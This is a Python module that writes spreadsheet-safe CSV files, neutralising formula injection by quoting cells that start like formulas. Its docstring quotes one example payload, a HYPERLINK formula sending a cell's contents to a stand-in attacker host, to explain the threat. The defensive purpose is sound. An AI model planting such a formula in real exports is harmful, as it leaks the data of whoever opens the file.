"""CSV files written for people to open in a spreadsheet, safe from formula injection.

A spreadsheet program reads a cell that starts with `=`, `+`, `-` or `@` (and, in some, a tab or a
carriage return) as a formula, so a course title or an external id such as
`=HYPERLINK("http://evil.example/?"&A1)` would run when the export is opened. Following OWASP's
rule for CSV injection, every free-text cell that starts with one of those characters is written
with a single quote in front (`'=HYPERLINK(...)`), which the spreadsheet shows as text and does
not evaluate.

Each export says which of its columns are numeric: their cells are numbers the project computed
(a rank, a confidence, a score), written as they are so that a negative score stays a number a
spreadsheet can sort and sum. A cell of a numeric column that is not a plain number after all is
treated as text, so no column lets a formula through.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Collection, Iterable, Sequence
from typing import IO, Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_NUMBER_RE = re.compile(r"-?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?")


def csv_cell_text(value: object) -> str:
    """A free-text cell: prefixed with `'` when it starts like a formula."""
    text = "" if value is None else str(value)
    return f"'{text}" if text.startswith(FORMULA_PREFIXES) else text


def csv_cell_number(value: object) -> str:
    """A numeric cell: a plain number (negative ones included) as it is; anything else as text."""
    text = "" if value is None else str(value)
    return text if _NUMBER_RE.fullmatch(text) else csv_cell_text(text)


class SpreadsheetCsvWriter:
    """`csv.writer` over `handle` for a file with the header `columns`, of which `numeric` hold
    numbers and the rest free text (see the module's docstring)."""

    def __init__(
        self,
        handle: IO[str],
        *,
        columns: Sequence[str],
        numeric: Collection[str] = (),
        **fmtparams: Any,
    ) -> None:
        unknown = set(numeric) - set(columns)
        if unknown:
            raise ValueError(f"numeric columns not in the header: {sorted(unknown)}")
        self._writer = csv.writer(handle, **fmtparams)
        self._columns = tuple(columns)
        self._cells = [csv_cell_number if c in numeric else csv_cell_text for c in columns]

    def writeheader(self) -> None:
        self._writer.writerow([csv_cell_text(column) for column in self._columns])

    def writerow(self, row: Sequence[object]) -> None:
        if len(row) != len(self._cells):
            raise ValueError(f"{len(row)} cells for {len(self._cells)} columns")
        self._writer.writerow([cell(value) for cell, value in zip(self._cells, row, strict=True)])

    def writerows(self, rows: Iterable[Sequence[object]]) -> None:
        for row in rows:
            self.writerow(row)
